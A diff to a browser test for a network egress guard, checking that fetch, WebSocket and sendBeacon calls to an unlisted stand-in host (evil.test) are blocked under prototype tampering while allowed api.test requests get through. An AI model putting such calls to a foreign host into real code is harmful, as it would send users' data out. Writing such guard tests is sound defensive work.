@@ -57,17 +57,21 @@ test("prototype tampering (Object.prototype members the guard's own Request init
   await page.evaluate(async () => {
     await guardReady;
     const settle = (promise) => new Promise((resolve) => promise.then(resolve, resolve));
+    navigator.sendBeacon(new URL('https://evil.test/adv-proto/beacon'));
     await settle(fetch('https://api.test/v1/adv-proto/plain'));
     await settle(fetch(new URL('https://evil.test/adv-proto/url-object')));
     await settle(fetch(new Request('https://evil.test/adv-proto/request', { method: 'PUT' })));
     await settle(fetch({ toString: () => 'https://evil.test/adv-proto/to-string' }));
     try { new WebSocket(new URL('wss://evil.test/adv-proto/socket')); } catch (_) {}
-    navigator.sendBeacon(new URL('https://evil.test/adv-proto/beacon'));
+    navigator.sendBeacon(new URL('https://api.test/v1/adv-proto/beacon-ok')); // after the refused beacon: the control
   });
   // The allowed request reached the server as a GET with the URL it was decided on; the
   // polluted init's DELETE did not ride along, and nothing reached the unlisted origin.
-  await waitForServed('api.test/v1/adv-proto/plain');
-  assert.deepEqual(servedRequests.filter((r) => r.path.includes('adv-proto')).map((r) => `${r.method} ${r.host}${r.path}`), ['GET api.test/v1/adv-proto/plain']);
+  await waitForServed('api.test/v1/adv-proto/beacon-ok');
+  assert.deepEqual(servedRequests.filter((r) => r.path.includes('adv-proto')).map((r) => `${r.method} ${r.host}${r.path}`).sort(), [
+    'GET api.test/v1/adv-proto/plain',
+    'POST api.test/v1/adv-proto/beacon-ok',
+  ]);
   assertNothingLeaked('adv-proto', ['/lie']);
   await page.close();
 });
